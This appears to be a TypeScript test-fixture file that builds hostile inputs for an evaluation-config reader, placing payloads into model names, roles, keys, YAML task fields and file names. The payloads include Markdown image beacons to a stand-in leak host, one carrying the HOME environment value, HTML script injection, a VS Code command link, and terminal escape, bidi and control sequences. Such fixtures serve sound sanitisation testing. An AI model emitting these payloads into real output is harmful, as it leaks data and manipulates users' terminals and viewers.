import { input, python, task, yaml, type HostileInput, type Kind } from '../input.js';
import { host } from '../verdict.js';

/** What a terminal, an editor or a Markdown reader might obey. */
const hostile: Readonly<Record<string, string>> = {
  image: `![a](https://${host}/leak?k=1)`,
  link: `[click](command:workbench.action.terminal.new)[a](https://${host})`,
  html: `<img src="https://${host}/x"><script>alert(1)</script></E>`,
  autolink: `<https://${host}> https://${host}`,
  'code-fence': `\`\`\`\n![a](https://${host}/x)\n\`\`\``,
  backticks: `a\`\` ![a](https://${host}/x) \`b\`\`\``,
  table: `|a|b|\n|-|-|\n|![a](https://${host}/x)|`,
  reference: `[a]: https://${host}/x\n\n![a]`,
  heading: `\n# ![a](https://${host}/x)\n---\n`,
  escape: '\u001b[2J\u001b]0;title\u0007\u001b]8;;https://hostile.invalid\u001b\\x',
  bell: 'a\u0007\u0008\u007fb',
  return: 'first\rsecond',
  c1: 'a\u009b31mb\u0085',
  bidi: 'a\u202eb\u2066c\u2069\u200f',
  separators: 'a\u2028b\u2029c\u0000d',
  long: `![a](https://${host}/x)`.repeat(20_000),
};

/** Where a name can stand so that it reaches a message, a hover or a terminal. */
const places: Readonly<Record<string, (name: string) => string>> = {
  abbr: (name) =>
    `n = ${name}\nmodels[0]['abbr'] = n\ndemo_datasets[0]['abbr'] = n\nmodels[0]['meta_template'] = dict(round=[dict(role='HUMAN'), dict(role='BOT', generate=True)])`,
  role: (name) =>
    `models[0]['meta_template'] = dict(round=[dict(role=${name}, begin=${name}), dict(role='BOT', generate=True)])\ndemo_datasets[0]['infer_cfg']['prompt_template']['template'] = dict(round=[dict(role=${name}, prompt='x')])`,
  key: (name) => `models[0][${name}] = 1\ndemo_datasets[0]['infer_cfg'][${name}] = 2\nx = dict(**{${name}: 1})`,
  type: (name) => `models[0]['type'] = ${name}\ndemo_datasets[0]['infer_cfg']['retriever']['type'] = ${name}`,
  raised: (name) => `raise ValueError(${name})`,
  column: (name) =>
    `demo_datasets[0]['reader_cfg']['input_columns'] = [${name}]\ndemo_datasets[0]['infer_cfg']['prompt_template']['template'] = '{' + ${name} + '}'`,
};

/** Without the environment's names: what a config computes is a name, too. */
const environment = `import os\nmodels[0]['abbr'] = '![a](https://${host}/leak?k=' + os.environ.get('HOME', '') + ')'\nmodels[0]['meta_template'] = dict(round=[dict(role='HUMAN')])`;

const inputs: HostileInput[] = [
  ...Object.entries(hostile).flatMap(([what, text]) =>
    Object.entries(places).map(([where, code]) => {
      const name = `name-${what}-${where}`;
      return python(name, code(JSON.stringify(text)));
    }),
  ),
  ...Object.entries(hostile).map(([what, text]) =>
    yaml(
      `name-${what}-task`,
      `${JSON.stringify(text)}: 1\ntag: ${JSON.stringify(text)}\ngroup: ${JSON.stringify(text)}\ninclude: ${JSON.stringify(text)}\nmetric_list: [{metric: ${JSON.stringify(text)}}]\n`,
    ),
  ),
  ...Object.entries(hostile).map(([what, text]) =>
    input(`name-${what}-json`, 'main.json', () => ({
      'main.json': JSON.stringify({
        datasets: [{ abbr: text, infer_cfg: { [text]: 1, prompt_template: { type: text } } }],
        models: [{ abbr: text, [text]: 1 }],
      }),
    })),
  ),
  python('name-environment', environment),
  input('name-of-file', 'a\u001b[31m\u202e![x](b).py', () => ({
    'a\u001b[31m\u202e![x](b).py': "raise ValueError('x')\ninfer_cfg = dict(\n",
  })),
  input('name-of-file-lines', 'a\nb\rc.py', () => ({ 'a\nb\rc.py': 'infer_cfg = dict(' })),
  input('name-of-base', 'main.py', () => ({
    'main.py': 'from mmengine.config import read_base\nwith read_base():\n    from .a import *\n',
    'a.py': "raise ValueError('\\x1b[31m')\n",
  })),
  input('name-of-task-file', 'a\u0007<img src=x>.yaml', () => ({ 'a\u0007<img src=x>.yaml': `${task()}nonsense: 1\n` })),
];

export const names: Kind = { kind: 'names', inputs };
